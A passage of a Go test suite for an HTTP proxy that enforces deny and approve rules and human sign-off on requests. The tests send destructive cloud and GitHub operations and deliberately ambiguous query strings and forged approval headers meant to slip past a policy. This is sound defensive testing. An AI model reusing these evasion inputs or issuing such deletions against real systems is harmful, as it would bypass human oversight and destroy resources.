	tc, br := h.tlsTunnel("api.github.com:443", "api.github.com")
	sendRaw(t, tc, br, "GET /user HTTP/1.1\r\nHost: api.github.com\r\nConnection: keep-alive, X-Secret\r\nX-Secret: 1\r\nKeep-Alive: timeout=5\r\nTE: trailers\r\nX-Kept: yes\r\n\r\n")
	reqs := h.up.Requests()
	if len(reqs) != 1 {
		t.Fatalf("upstream saw %d requests", len(reqs))
	}
	for _, k := range []string{"X-Secret", "Keep-Alive", "Te"} {
		if v := reqs[0].Header.Get(k); v != "" {
			t.Errorf("upstream got hop-by-hop %s: %q", k, v)
		}
	}
	if reqs[0].Header.Get("X-Kept") != "yes" {
		t.Errorf("end-to-end header lost")
	}
}

func TestKeepAliveAcrossRequests(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	tc, br := h.tlsTunnel("api.github.com:443", "api.github.com")
	for i := range 3 {
		fmt.Fprintf(tc, "POST /repos/o/r%d HTTP/1.1\r\nHost: api.github.com\r\nContent-Length: 2\r\n\r\nhi", i)
		wantKeptOK(t, br, fmt.Sprintf("request %d", i))
	}
}

func TestShadowModeForwardsAndRecordsWouldDeny(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: denyDeletes, configure: func(o *Options) { o.Shadow = true }})
	resp, _ := h.do("DELETE", "https://api.github.com/repos/acme/shop", "")
	if resp.StatusCode != http.StatusNoContent {
		t.Fatalf("shadow mode status %d, want the upstream's 204", resp.StatusCode)
	}
	ds := h.decisions()
	if len(ds) != 1 || ds[0].Decision != "would_deny" {
		t.Fatalf("decision records = %+v", ds)
	}
	if c := h.srv.Counts(h.sess.ID); c.Shadowed != 1 {
		t.Errorf("counts = %+v", c)
	}
}

func TestLargeBodyStreamsPastInspectionLimit(t *testing.T) {
	const sawTruncated = `package countersign

deny contains "the policy did not see a truncated body" if not input.request.body_truncated
`
	h := newHarness(t, harnessOptions{policy: sawTruncated, configure: func(o *Options) { o.BodyLimit = 64 << 10 }})
	body := bytes.Repeat([]byte("0123456789abcdef"), 3<<16) // 3 MiB
	resp, msg := h.do("PUT", "https://example.test/upload", string(body), "Content-Type", "application/octet-stream")
	if resp.StatusCode != 200 {
		t.Fatalf("status %d %q", resp.StatusCode, msg)
	}
	reqs := h.up.Requests()
	if len(reqs) != 1 || !bytes.Equal(reqs[0].Body, body) {
		t.Fatalf("upstream body differs (got %d bytes, want %d)", len(reqs[0].Body), len(body))
	}
}

func TestHeldBodyOverLimitRefused(t *testing.T) {
	const approveAll = `package countersign

approve contains "always" if true
`
	h := newHarness(t, harnessOptions{policy: approveAll, configure: func(o *Options) { o.BodyLimit = 1024 }})
	resp, body := h.do("POST", "https://example.test/", strings.Repeat("x", 4096))
	if resp.StatusCode != http.StatusRequestEntityTooLarge || !strings.Contains(body, "body_limit") {
		t.Fatalf("answer %d %q", resp.StatusCode, body)
	}
	if r := h.waitNotHeld(t); !strings.Contains(r.Detail, "body_limit") {
		t.Errorf("the refusal's record does not say why: %q", r.Detail)
	}
}

func TestShutdownAnswersHeldRequests(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	done := make(chan int, 1)
	go func() {
		resp, _ := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", "Action=TerminateInstances&InstanceId.1=i-0abc",
			"Content-Type", "application/x-www-form-urlencoded")
		done <- resp.StatusCode
	}()
	h.waitPending()
	h.broker.Close()
	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
	defer cancel()
	select {
	case code := <-done:
		if code != http.StatusServiceUnavailable {
			t.Errorf("held request answered %d at shutdown, want 503", code)
		}
	case <-ctx.Done():
		t.Fatal("held request not answered at shutdown")
	}
	h.wantNoUpstream(t)
}

// wantKeptOK reads a response from br and fails t unless it is a 200 that
// keeps the connection open.
func wantKeptOK(t *testing.T, br *bufio.Reader, what string) {
	t.Helper()
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Close {
		t.Fatalf("%s: status %d, close %v; want 200 on a kept connection", what, resp.StatusCode, resp.Close)
	}
}

// waitParked waits, bounded, until n held requests' connections are parked.
func (h *harness) waitParked(n int) {
	h.t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for h.srv.parked.count() != n {
		if time.Now().After(deadline) {
			h.t.Fatalf("%d connections parked, want %d", h.srv.parked.count(), n)
		}
		runtime.Gosched()
		time.Sleep(time.Millisecond)
	}
}

// goroutinesIn counts the goroutines with fn on their stack.
func goroutinesIn(fn string) int {
	buf := make([]byte, 1<<20)
	for {
		n := runtime.Stack(buf, true)
		if n < len(buf) {
			return strings.Count(string(buf[:n]), fn+"(")
		}
		buf = make([]byte, 2*len(buf))
	}
}

// A held request costs no goroutine while nothing happens: its connection
// is parked, and resumed when its client leaves, sends bytes, or the
// request is decided.
func TestHeldConnectionsAreParked(t *testing.T) {
	for _, tt := range []struct {
		name string
		// end ends the hold; answered says whether the client gets an
		// answer on the connection.
		end      func(t *testing.T, h *harness, rec *approval.Record, tc net.Conn)
		answered bool
		want     string // the approval's last audit detail
	}{
		{
			name: "decided",
			end: func(t *testing.T, h *harness, rec *approval.Record, _ net.Conn) {
				if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: false, Approver: "cli:bob", Via: "cli", Reason: "no"}); err != nil {
					t.Fatal(err)
				}
			},
			answered: true, want: "denied",
		},
		{
			name:     "client leaves",
			end:      func(_ *testing.T, _ *harness, _ *approval.Record, tc net.Conn) { tc.Close() },
			answered: false, want: "abandoned",
		},
		{
			// Bytes while held are not a client leaving: the hold goes on
			// (on a goroutine now) and the decision still answers.
			name: "client sends bytes",
			end: func(t *testing.T, h *harness, rec *approval.Record, tc net.Conn) {
				fmt.Fprintf(tc, "GET /next HTTP/1.1\r\nHost: ec2.us-east-1.amazonaws.com\r\n\r\n")
				h.waitParked(0)
				if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: false, Approver: "cli:bob", Via: "cli", Reason: "no"}); err != nil {
					t.Fatal(err)
				}
			},
			answered: true, want: "denied",
		},
	} {
		t.Run(tt.name, func(t *testing.T) {
			// Connections of earlier tests may still be ending: count from
			// none.
			deadline := time.Now().Add(10 * time.Second)
			for goroutinesIn("proxy.(*Server).serveHTTP1") != 0 {
				if time.Now().After(deadline) {
					t.Fatal("connections of earlier tests are still served after 10s")
				}
				runtime.Gosched()
				time.Sleep(time.Millisecond)
			}
			h := newHarness(t, harnessOptions{policy: approveEC2})
			tc, br := h.tlsTunnel("ec2.us-east-1.amazonaws.com:443", "ec2.us-east-1.amazonaws.com")
			body := "Action=TerminateInstances&InstanceId.1=i-0abc"
			fmt.Fprintf(tc, "POST / HTTP/1.1\r\nHost: ec2.us-east-1.amazonaws.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
			rec := h.waitPending()
			h.waitParked(1)
			// The goroutine that parked the connection returns just after
			// parking it: wait, bounded, for it to be gone.
			deadline = time.Now().Add(10 * time.Second)
			for n := goroutinesIn("proxy.(*Server).serveHTTP1"); n != 0; n = goroutinesIn("proxy.(*Server).serveHTTP1") {
				if time.Now().After(deadline) {
					t.Fatalf("%d goroutines serve connections 10s after the only one was parked", n)
				}
				runtime.Gosched()
				time.Sleep(time.Millisecond)
			}
			tt.end(t, h, rec, tc)
			if tt.answered {
				resp, err := http.ReadResponse(br, nil)
				if err != nil {
					t.Fatalf("no answer after the hold: %v", err)
				}
				resp.Body.Close()
				if resp.StatusCode != http.StatusForbidden {
					t.Errorf("held request answered %d, want 403", resp.StatusCode)
				}
			}
			h.waitParked(0)
			deadline = time.Now().Add(10 * time.Second)
			for {
				var last string
				for _, r := range h.records() {
					if r.Type == "approval" && r.ApprovalID == rec.ID {
						last = r.Detail
					}
				}
				if strings.HasPrefix(last, tt.want) {
					break
				}
				if time.Now().After(deadline) {
					t.Fatalf("the approval's last audit record is %q, want %q", last, tt.want)
				}
				runtime.Gosched()
				time.Sleep(time.Millisecond)
			}
			h.wantNoUpstream(t)
		})
	}
}

// brokenStore is an approval store that fails: ConsumeGrant when
// failGrant is set, UseScope when failScope is, FindPending always.
type brokenStore struct {
	approval.Store
	failGrant, failScope bool
}

var errBrokenStore = errors.New("store unreachable")

func (b brokenStore) ConsumeGrant(ctx context.Context, sessionID, fingerprint string, now time.Time) (approval.Grant, error) {
	if b.failGrant {
		return approval.Grant{}, errBrokenStore
	}
	return b.Store.ConsumeGrant(ctx, sessionID, fingerprint, now)
}

func (b brokenStore) UseScope(ctx context.Context, q approval.ScopeQuery, now time.Time) (approval.Scope, error) {
	if b.failScope {
		return approval.Scope{}, errBrokenStore
	}
	return b.Store.UseScope(ctx, q, now)
}

func (brokenStore) FindPending(context.Context, string, string, time.Time) (*approval.Record, error) {
	return nil, errBrokenStore
}

// waitNotHeld waits, bounded, for the audit record saying that a request
// the policy sent to a human was refused instead, checks that it is the
// only one and comes after the request's "approve" decision record, and
// returns it.
func (h *harness) waitNotHeld(t *testing.T) *audit.Record {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for {
		var approve, notHeld []*audit.Record
		for _, r := range h.records() {
			switch {
			case r.Type == "decision" && r.Decision == "approve":
				approve = append(approve, r)
			case r.Type == "approval" && r.Decision == "deny" && strings.HasPrefix(r.Detail, "not held: "):
				notHeld = append(notHeld, r)
			}
		}
		if len(notHeld) > 0 {
			if len(notHeld) != 1 || len(approve) != 1 {
				t.Fatalf("%d refusal records and %d approve decisions, want 1 each", len(notHeld), len(approve))
			}
			if notHeld[0].RequestID != approve[0].RequestID || notHeld[0].Seq < approve[0].Seq {
				t.Errorf("the refusal (seq %d, %s) does not follow its approve decision (seq %d, %s)",
					notHeld[0].Seq, notHeld[0].RequestID, approve[0].Seq, approve[0].RequestID)
			}
			return notHeld[0]
		}
		if time.Now().After(deadline) {
			t.Fatal("no audit record of the refusal after 10s")
		}
		runtime.Gosched()
		time.Sleep(time.Millisecond)
	}
}

// A request that needs approval when the approval store fails is refused
// (503, nothing sent), and the audit log says so after its "approve"
// decision record, once.
func TestApprovalStoreFailureIsRefusedAndAudited(t *testing.T) {
	for _, tt := range []struct {
		name  string
		store brokenStore
	}{
		{"opening the approval fails", brokenStore{}},
		{"the grant lookup fails", brokenStore{failGrant: true}},
		{"the scoped-grant lookup fails", brokenStore{failScope: true}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			tt.store.Store = approval.NewMemoryStore()
			h := newHarness(t, harnessOptions{policy: approveEC2, store: tt.store})
			tc, br := h.tlsTunnel("ec2.us-east-1.amazonaws.com:443", "ec2.us-east-1.amazonaws.com")
			body := "Action=TerminateInstances&InstanceId.1=i-0abc"
			fmt.Fprintf(tc, "POST / HTTP/1.1\r\nHost: ec2.us-east-1.amazonaws.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
			_ = tc.SetReadDeadline(time.Now().Add(10 * time.Second))
			resp, err := http.ReadResponse(br, nil)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusServiceUnavailable {
				t.Errorf("answered %d, want 503", resp.StatusCode)
			}
			h.wantNoUpstream(t)
			if r := h.waitNotHeld(t); !strings.Contains(r.Error, "store unreachable") {
				t.Errorf("the refusal's record names no cause: %+v", r.Event)
			}
		})
	}
}

// A request that needs approval after the broker has closed (the app
// closes it before shutting the proxy down) is answered at once, not
// parked for a wake-up that will never come.
func TestHoldAfterBrokerClosedIsAnswered(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	tc, br := h.tlsTunnel("ec2.us-east-1.amazonaws.com:443", "ec2.us-east-1.amazonaws.com")
	h.broker.Close()
	body := "Action=TerminateInstances&InstanceId.1=i-0abc"
	fmt.Fprintf(tc, "POST / HTTP/1.1\r\nHost: ec2.us-east-1.amazonaws.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	_ = tc.SetReadDeadline(time.Now().Add(10 * time.Second))
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatalf("no answer (parked: %d): %v", h.srv.parked.count(), err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("answered %d, want 503", resp.StatusCode)
	}
	h.wantNoUpstream(t)
}

func TestClientDisconnectWhileHeldIsAbandoned(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2})
	tc, _ := h.tlsTunnel("ec2.us-east-1.amazonaws.com:443", "ec2.us-east-1.amazonaws.com")
	body := "Action=TerminateInstances&InstanceId.1=i-0abc"
	fmt.Fprintf(tc, "POST / HTTP/1.1\r\nHost: ec2.us-east-1.amazonaws.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	rec := h.waitPending()
	tc.Close()
	// The abandonment is audited; wait for it through the log, bounded.
	deadline := time.Now().Add(10 * time.Second)
	for {
		found := false
		for _, r := range h.records() {
			if r.Type == "approval" && r.ApprovalID == rec.ID && strings.HasPrefix(r.Detail, "abandoned") {
				found = true
			}
		}
		if found {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no 'abandoned' audit record within 10s")
		}
		runtime.Gosched()
		time.Sleep(time.Millisecond)
	}
	// An approval now still yields a grant for the retry.
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	resp, _ := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", body, "Content-Type", "application/x-www-form-urlencoded")
	if resp.StatusCode != 200 || h.up.Count("POST", "/") != 1 {
		t.Fatalf("retry after approving an abandoned request: %d, upstream %d", resp.StatusCode, h.up.Count("POST", "/"))
	}
}

func basic(user, pass string) string {
	return base64.StdEncoding.EncodeToString([]byte(user + ":" + pass))
}

func readFile(p string) (string, error) {
	b, err := os.ReadFile(p)
	return string(b), err
}

func bufioReader(r io.Reader) *bufio.Reader { return bufio.NewReader(r) }

func TestTrailersAreNeverForwarded(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	req, _ := http.NewRequestWithContext(t.Context(), "GET", "https://example.test/trailers", nil)
	resp, err := h.client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "body with a trailer\n" {
		t.Fatalf("body %q", body)
	}
	if len(resp.Trailer) != 0 || resp.Header.Get("Trailer") != "" {
		t.Errorf("trailers reached the client: %v / Trailer: %q", resp.Trailer, resp.Header.Get("Trailer"))
	}

	// Plain http:// through the proxy, answered by goproxy's handler,
	// which forwards whatever trailers the response holds once its body
	// is read.
	tr := &http.Transport{Proxy: http.ProxyURL(h.proxyURL(true))}
	defer tr.CloseIdleConnections()
	resp, err = (&http.Client{Transport: tr}).Get("http://example.test/trailers")
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK || string(body) != "body with a trailer\n" {
		t.Fatalf("plain HTTP: %d %q", resp.StatusCode, body)
	}
	if len(resp.Trailer) != 0 || resp.Header.Get("Trailer") != "" {
		t.Errorf("plain HTTP: trailers reached the client: %v / Trailer: %q", resp.Trailer, resp.Header.Get("Trailer"))
	}
}

// countingResolver answers every name with 127.0.0.1 and counts lookups.
type countingResolver struct {
	mu    sync.Mutex
	names []string
}

func (c *countingResolver) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.names = append(c.names, host)
	return []netip.Addr{netip.MustParseAddr("127.0.0.1")}, nil
}

func (c *countingResolver) lookups() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return append([]string(nil), c.names...)
}

func TestNamesAreResolvedOnlyAfterAllow(t *testing.T) {
	res := &countingResolver{}
	h := newHarness(t, harnessOptions{policy: denyDeletes, configure: func(o *Options) { o.Resolver = res }})
	_, port, _ := net.SplitHostPort(h.up.Addr)
	target := "https://unpinned.test:" + port + "/repos/acme/shop"
	resp, _ := h.do("DELETE", target, "")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("DELETE: %d", resp.StatusCode)
	}
	if got := res.lookups(); len(got) != 0 {
		t.Fatalf("a denied request caused DNS lookups: %v", got)
	}
	resp, _ = h.do("GET", target, "")
	if resp.StatusCode != 200 {
		t.Fatalf("GET: %d", resp.StatusCode)
	}
	if got := res.lookups(); len(got) != 1 || got[0] != "unpinned.test" {
		t.Fatalf("lookups after one allowed request = %v, want exactly [unpinned.test]", got)
	}
}

func TestChangedBodyNeedsANewApproval(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2, hold: 50 * time.Millisecond})
	send := func(body string) *http.Response {
		resp, _ := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", body, "Content-Type", "application/x-www-form-urlencoded")
		return resp
	}
	resp := send("Action=TerminateInstances&InstanceId.1=i-0abc")
	id := resp.Header.Get("X-Countersign-Approval")
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	// The approved grant was for i-0abc; a retry that terminates another
	// instance is a different request.
	resp = send("Action=TerminateInstances&InstanceId.1=i-0prod")
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("X-Countersign-Approval") == id {
		t.Fatalf("changed body: %d, approval %q (must not use %s)", resp.StatusCode, resp.Header.Get("X-Countersign-Approval"), id)
	}
	if n := h.up.Count("", ""); n != 0 {
		t.Fatalf("upstream saw %d requests", n)
	}
}

func TestScopedGrantAdmitsTheSameOperationOnly(t *testing.T) {
	const approveDeletes = `package countersign

approve contains "deleting needs a human" if input.request.method == "DELETE"
`
	h := newHarness(t, harnessOptions{policy: approveDeletes, hold: 50 * time.Millisecond})
	resp, _ := h.do("DELETE", "https://api.github.com/repos/acme/shop", "")
	id := resp.Header.Get("X-Countersign-Approval")
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli", ScopeFor: time.Hour}); err != nil {
		t.Fatal(err)
	}
	// The one-time grant admits the retry; the scope admits it again.
	for i := range 3 {
		resp, _ = h.do("DELETE", "https://api.github.com/repos/acme/shop", "")
		if resp.StatusCode != http.StatusNoContent {
			t.Fatalf("DELETE %d under the scoped grant: %d", i, resp.StatusCode)
		}
		if got := h.responseOf(resp); got.ApprovalID != id || resp.Header.Get("X-Countersign-Approval") != id {
			t.Errorf("DELETE %d under the scoped grant: response record names approval %q, header %q, want %s", i, got.ApprovalID, resp.Header.Get("X-Countersign-Approval"), id)
		}
	}
	// Another resource is outside the scope.
	resp, _ = h.do("DELETE", "https://api.github.com/repos/acme/other", "")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("DELETE of another repository: %d, want held then pending", resp.StatusCode)
	}
	scopes, _ := h.broker.Scopes(t.Context(), true)
	if len(scopes) != 1 {
		t.Fatalf("scopes = %+v", scopes)
	}
	if _, err := h.broker.RevokeScope(t.Context(), scopes[0].ID, "cli:bob"); err != nil {
		t.Fatal(err)
	}
	resp, _ = h.do("DELETE", "https://api.github.com/repos/acme/shop", "")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("after revoking: %d, want a new approval", resp.StatusCode)
	}
	if n := h.up.Count("DELETE", "/repos/acme/shop"); n != 3 {
		t.Errorf("upstream saw %d DELETEs, want 3", n)
	}
}

// An upgrade a human approved: the 101 and the record of the upgraded
// connection's end name the approval.
func TestApprovedUpgradeNamesItsApproval(t *testing.T) {
	const approveUpgrades = `package countersign

approve contains "an upgrade needs a human" if input.request.upgrade == "websocket"
`
	h := newHarness(t, harnessOptions{policy: approveUpgrades})
	tc, br := h.tlsTunnel("example.test:443", "example.test")
	fmt.Fprint(tc, "GET /ws HTTP/1.1\r\nHost: example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
	rec := h.waitPending()
	if _, err := h.broker.Decide(t.Context(), rec.ID, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusSwitchingProtocols || resp.Header.Get("X-Countersign-Approval") != rec.ID {
		t.Fatalf("upgrade answered %s %v, want 101 naming %s", resp.Status, resp.Header, rec.ID)
	}
	tc.Close()
	closed := h.upgradeClosed()
	if closed.ApprovalID != rec.ID {
		t.Errorf("close record names approval %q, want %s", closed.ApprovalID, rec.ID)
	}
}

// An upstream cannot make an answer look admitted by an approval.
func TestSetDecidedOwnsTheApprovalHeader(t *testing.T) {
	h := http.Header{"X-Countersign-Approval": {"ap-forged"}, "X-Countersign-Decision": {"approved"}}
	setDecided(h, "allow", "r-1", "")
	if v, ok := h["X-Countersign-Approval"]; ok || h.Get("X-Countersign-Decision") != "allow" || h.Get("X-Countersign-Request") != "r-1" {
		t.Errorf("after an allow: approval %q, headers %v", v, h)
	}
	setDecided(h, "approved", "r-2", "ap-1")
	if h.Get("X-Countersign-Approval") != "ap-1" {
		t.Errorf("after an approval: headers %v", h)
	}
}

func TestAllowedUpgradeIsRelayed(t *testing.T) {
	h := newHarness(t, harnessOptions{})
	tc, br := h.tlsTunnel("example.test:443", "example.test")
	fmt.Fprint(tc, "GET /ws HTTP/1.1\r\nHost: example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	if resp.StatusCode != http.StatusSwitchingProtocols || resp.Header.Get("Upgrade") != "websocket" {
		t.Fatalf("upgrade answered %s %v", resp.Status, resp.Header)
	}
	fmt.Fprint(tc, "hello over the upgraded connection")
	got := make([]byte, len("hello over the upgraded connection"))
	if _, err := io.ReadFull(br, got); err != nil {
		t.Fatal(err)
	}
	if string(got) != "hello over the upgraded connection" {
		t.Fatalf("relayed %q", got)
	}
	ds := h.decisions()
	if len(ds) != 1 || ds[0].Decision != "allow" {
		t.Fatalf("decisions = %+v", ds)
	}
	// What passed after the 101 was not decided, but its size is on record
	// once the connection ends.
	tc.Close()
	closed := h.upgradeClosed()
	if closed.RequestID != ds[0].RequestID || closed.Fields["protocol"] != "websocket" ||
		fmt.Sprint(closed.Fields["bytes_sent"]) != fmt.Sprint(len("hello over the upgraded connection")) {
		t.Errorf("close record = %+v, want request %s, websocket, %d bytes sent", closed, ds[0].RequestID, len("hello over the upgraded connection"))
	}
}

func TestUpgradeIsDecidedAtTheUpgradeRequest(t *testing.T) {
	const noUpgrades = `package countersign

deny contains "no opaque channels" if input.request.upgrade
`
	h := newHarness(t, harnessOptions{policy: noUpgrades})
	tc, br := h.tlsTunnel("example.test:443", "example.test")
	resp, _ := sendRaw(t, tc, br, "GET /ws HTTP/1.1\r\nHost: example.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
	if resp.StatusCode != http.StatusForbidden {
		t.Fatalf("denied upgrade answered %s", resp.Status)
	}
	h.wantNoUpstream(t)
}

func TestClientCertificateClusterIsExplained(t *testing.T) {
	for _, tt := range []struct {
		name string
		auth tls.ClientAuthType
	}{
		{"required: handshake fails", tls.RequireAnyClientCert},
		{"requested: the server refuses without one", tls.RequestClientCert},
	} {
		t.Run(tt.name, func(t *testing.T) {
			upCA, err := testinfra.NewCA()
			if err != nil {
				t.Fatal(err)
			}
			up, err := testinfra.StartUpstreamTLS(upCA, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if len(r.TLS.PeerCertificates) == 0 {
					http.Error(w, `{"kind":"Status","code":401}`, http.StatusUnauthorized)
					return
				}
				w.WriteHeader(200)
			}), func(c *tls.Config) { c.ClientAuth = tt.auth })
			if err != nil {
				t.Fatal(err)
			}
			defer up.Close()
			h := newHarness(t, harnessOptions{configure: func(o *Options) {
				o.RootCAs = upCA.Pool()
				o.Resolve = up.Resolve("k8s.example.test")
				o.ClientCertMessage = func(host string) string { return "countersign: " + host + " wants a client certificate" }
			}})
			resp, body := h.do("GET", "https://k8s.example.test/api/v1/namespaces", "")
			if !strings.Contains(body, "k8s.example.test wants a client certificate") {
				t.Fatalf("answer %d %q, want the client-certificate explanation", resp.StatusCode, body)
			}
		})
	}
}

func TestConcurrentRetriesForwardExactlyOnce(t *testing.T) {
	h := newHarness(t, harnessOptions{policy: approveEC2, hold: 50 * time.Millisecond})
	const body = "Action=TerminateInstances&InstanceId.1=i-0abc"
	resp, _ := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", body, "Content-Type", "application/x-www-form-urlencoded")
	id := resp.Header.Get("X-Countersign-Approval")
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	var wg sync.WaitGroup
	codes := make(chan int, 50)
	for range 50 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			r, _ := h.do("POST", "https://ec2.us-east-1.amazonaws.com/", body, "Content-Type", "application/x-www-form-urlencoded")
			codes <- r.StatusCode
		}()
	}
	wg.Wait()
	close(codes)
	ok := 0
	for c := range codes {
		if c == 200 {
			ok++
		}
	}
	if ok != 1 || h.up.Count("POST", "/") != 1 {
		t.Fatalf("%d retries answered 200 and the upstream saw %d POSTs; want exactly one of each", ok, h.up.Count("POST", "/"))
	}
}

func TestRetryWithDifferentHeadersDoesNotJoinOrUseTheGrant(t *testing.T) {
	const approvePosts = `package countersign

approve contains "posts need a human" if input.request.method == "POST"
`
	h := newHarness(t, harnessOptions{policy: approvePosts, hold: 50 * time.Millisecond})
	send := func(target string) *http.Response {
		resp, _ := h.do("POST", "https://example.test/", `{"KeyId":"k-1"}`, "Content-Type", "application/x-amz-json-1.1", "X-Amz-Target", target)
		return resp
	}
	first := send("TrentService.EnableKeyRotation").Header.Get("X-Countersign-Approval")
	// The same body with another operation in a header is another request:
	// it must not join the pending approval ...
	second := send("TrentService.ScheduleKeyDeletion").Header.Get("X-Countersign-Approval")
	if first == "" || first == second {
		t.Fatalf("approval ids %q and %q: a request with another X-Amz-Target joined the approval", first, second)
	}
	// ... nor use the grant the first one's approval leaves.
	if _, err := h.broker.Decide(t.Context(), first, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli"}); err != nil {
		t.Fatal(err)
	}
	if resp := send("TrentService.ScheduleKeyDeletion"); resp.StatusCode == 200 {
		t.Fatal("a different operation was admitted by another request's grant")
	}
	if n := h.up.Count("POST", "/"); n != 0 {
		t.Fatalf("upstream saw %d POSTs", n)
	}
	if resp := send("TrentService.EnableKeyRotation"); resp.StatusCode != 200 {
		t.Fatalf("the approved request's retry: %d", resp.StatusCode)
	}
}

func TestScopedGrantDoesNotCrossHostsOrRequirements(t *testing.T) {
	const k8s = `package countersign

approve contains {"msg": "deletes need a human", "id": "K-1"} if input.action.verb == "delete"

approve contains {"msg": "production needs two", "id": "K-2", "approvals": 2} if {
	input.action.verb == "delete"
	input.request.host == "prod.test"
}
`
	h := newHarness(t, harnessOptions{policy: k8s, hold: 50 * time.Millisecond, configure: func(o *Options) {
		o.Classifier = action.NewClassifier(kubernetes.New(kubernetes.Options{Hosts: []string{"staging.test", "prod.test"}}))
	}})
	h.srv.tunnelDialer.resolve = h.up.Resolve("staging.test", "prod.test")
	resp, _ := h.do("DELETE", "https://staging.test/apis/apps/v1/namespaces/payments/deployments/api", "")
	id := resp.Header.Get("X-Countersign-Approval")
	if _, err := h.broker.Decide(t.Context(), id, approval.Decision{Approve: true, Approver: "cli:bob", Via: "cli", ScopeFor: time.Hour}); err != nil {
		t.Fatal(err)
	}
	h.do("DELETE", "https://staging.test/apis/apps/v1/namespaces/payments/deployments/api", "") // the one-time grant
	if resp, _ := h.do("DELETE", "https://staging.test/apis/apps/v1/namespaces/payments/deployments/api", ""); resp.StatusCode != 200 {
		t.Fatalf("the scoped grant did not admit the same delete on staging: %d", resp.StatusCode)
	}
	if resp, _ := h.do("DELETE", "https://prod.test/apis/apps/v1/namespaces/payments/deployments/api", ""); resp.StatusCode == 200 {
		t.Fatal("a staging scoped grant admitted the same delete on production")
	}
	if n := h.up.Count("DELETE", ""); n != 2 {
		t.Errorf("upstream saw %d DELETEs, want 2 (both on staging)", n)
	}
}

func TestAmbiguousQueryRefused(t *testing.T) {
	const denyForce = `package countersign

deny contains "force is not allowed" if input.request.query.force
`
	h := newHarness(t, harnessOptions{policy: denyForce})
	for _, target := range []string{
		"https://example.test/repo?x=1;force=true", // url.ParseQuery would drop the pair
		"https://example.test/repo?x=%zz&force=true",
	} {
		tc, br := h.tlsTunnel("example.test:443", "example.test")
		path := strings.TrimPrefix(target, "https://example.test")
		resp, _ := sendRaw(t, tc, br, fmt.Sprintf("DELETE %s HTTP/1.1\r\nHost: example.test\r\n\r\n", path))
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%s: %d, want 400", path, resp.StatusCode)
		}
	}
	h.wantNoUpstream(t)
}

// sendRaw writes the raw request to w and reads the response from br; it
// returns the response with its body read and closed.
func sendRaw(t testing.TB, w io.Writer, br *bufio.Reader, raw string) (*http.Response, string) {
	t.Helper()
	if _, err := io.WriteString(w, raw); err != nil {
		t.Fatal(err)
	}
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
